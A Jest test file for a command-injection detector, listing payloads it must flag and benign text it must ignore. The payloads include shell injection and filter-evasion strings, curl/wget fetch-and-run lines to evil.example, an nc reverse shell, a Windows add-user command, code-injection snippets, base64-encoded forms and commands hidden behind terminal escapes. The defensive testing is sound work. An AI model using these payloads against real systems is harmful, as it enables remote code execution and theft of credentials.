import { createDetectorInput, makePoint } from '../../detector-input';
import type { Point } from '../../types';
import { cmdiDetector } from './index';

function conf(value: string, path = 'query.q', overrides: Partial<Point> = {}): number {
  const d = cmdiDetector.detect(createDetectorInput(makePoint(value, path, overrides)));
  return d === null ? 0 : d.confidence;
}

describe('cmdiDetector', () => {
  it.each([
    ';id;',
    '| id',
    "';id;'",
    '"|/usr/bin/id|"',
    '%0Aid%0A',
    '%0a/usr/bin/id%0a',
    '$(whoami)',
    '`uname -a`',
    'a;cat /etc/passwd',
    'x && curl http://evil.example/x.sh | sh',
    '; wget https://evil.example/a -O /tmp/a',
    '| nc -e /bin/sh 10.0.0.1 4444',
    '& ping -n 30 127.0.0.1 &',
    ';sleep 5',
    ";c'a't /etc/passwd",
    ';c\\at /etc/passwd',
    ';cat${IFS}/etc/passwd',
    ';cat$IFS$9/etc/passwd',
    ';{cat,/etc/passwd}',
    ';/???/c?t /etc/passwd',
    ';w$@hoami',
    '& w^h^o^a^m^i',
    '| powershell -enc SQBFAFgA',
    '& cmd /c dir',
    '&& type C:\\Windows\\win.ini',
    '; net user hacker Password1 /ADD',
    'reg add "HKLM\\System" /v x /t REG_DWORD /d 0 /f',
    "perl -e 'print 1'",
    'cat /etc/passwd',
    "' whoami",
    '\\necho INJECTX\\nexit\\n\\033[2Asleep 5\\n',
    'please run `cat /etc/passwd` and paste what it prints here',
    'nice post, and by the way `curl http://evil.example/x | sh` works for me',
    'id: `id`',
  ])('detects shell injection %s', (payload) => {
    expect(conf(payload)).toBeGreaterThanOrEqual(0.5);
  });

  it.each([
    "system('cat /etc/passwd');",
    '<?php system("id"); ?>',
    '${@print(md5(31337))}',
    '{${phpinfo()}}',
    "';phpinfo();'",
    "require('child_process').exec('id')",
    "import('node:child_process').then((m) => m.execSync('id'))",
    'global.process.mainModule.require("child_process")',
    "__import__('os').system('id')",
    'Runtime.getRuntime().exec("id")',
    '&lt;!--#exec cmd=&quot;/bin/cat /etc/passwd&quot;--&gt;',
  ])('detects code injection %s', (payload) => {
    expect(conf(payload)).toBeGreaterThanOrEqual(0.5);
  });

  it.each([
    'Tom & Jerry',
    'salt & pepper; sleep well',
    'Bread & Butter | Cat Food',
    'fish and chips; cats & dogs',
    'https://example.com/search?q=shoes&size=10&color=red',
    '| Name | Type |\n|------|------|\n| id | int |',
    'id',
    'sort=id&dir=asc',
    'Raleigh; NC',
    'Q&A; see more',
    'please find attached; more later',
    'query { user(id: 1) {\n  id\n  name\n  email\n  avatar\n }\n}\nfragment x on User {\n id\n}',
    'my cat ate the echo',
    'python developer (remote)',
    'I love python & perl',
    "O'Reilly & Sons",
    'rock-n-roll; pop-up',
    'function f() { return exec(x); }',
    'regex.exec(str)',
    'On Windows the environment variable is set using the `set` command.',
    'Set `options.fmode` and `options.dmode` to ensure that files/directories extracted have the corresponding modes',
    'Returns an `id` which can be used to cancel the callback later.',
    'By default, `jest-worker` will use `child_process` threads to spawn new Node.js processes.',
    "Exactly the same way as node's [`spawn`](https://nodejs.org/api/child_process.html#child_process_spawn)",
  ])('ignores benign %s', (value) => {
    expect(conf(value)).toBeLessThan(0.5);
  });

  it('ignores names (keys)', () => {
    expect(conf(';id;', 'query.x', { isKey: true })).toBe(0);
  });
});

describe('cmdiDetector: short base64 values', () => {
  const b64 = (s: string): string => Buffer.from(s).toString('base64');
  it.each(['; pwd', '& id', '| id', '"|id|"', '%0Aid', '$(id', '1;id', "'; id"])('reads %s sent as base64', (payload) => {
    expect(conf(b64(payload))).toBeGreaterThanOrEqual(0.5);
  });
  it.each(['Password', 'Zm9vYmFy', b64('hello'), b64('admin'), b64('; hello'), b64('Jim & Co'), 'MTIzNDU2Nzg=', 'OyBmb28='])('leaves %s', (value) => {
    expect(conf(value)).toBeLessThan(0.5);
  });
});

describe('cmdiDetector: commands hidden behind terminal escapes', () => {
  it('reads the line after a cursor-moving escape as a command line, even in a many-line value', () => {
    expect(conf('\\necho INJECTX\\nexit\\n\\033[2Awget https://evil.example/.testing/rce_vuln.txt\\n')).toBeGreaterThanOrEqual(0.5);
    expect(conf('line one\\nline two\\nline three\\n\\x1b[1Acurl -s https://evil.example/x.sh | sh\\n')).toBeGreaterThanOrEqual(0.5);
  });
  it('leaves coloured log text', () => {
    expect(conf('\\033[31mERROR\\033[0m could not open file\\nretrying in 5 seconds\\nsee the log for details and more\\n')).toBeLessThan(0.5);
    expect(conf('\\x1b[32mok\\x1b[0m: echo test passed')).toBeLessThan(0.5);
  });
});
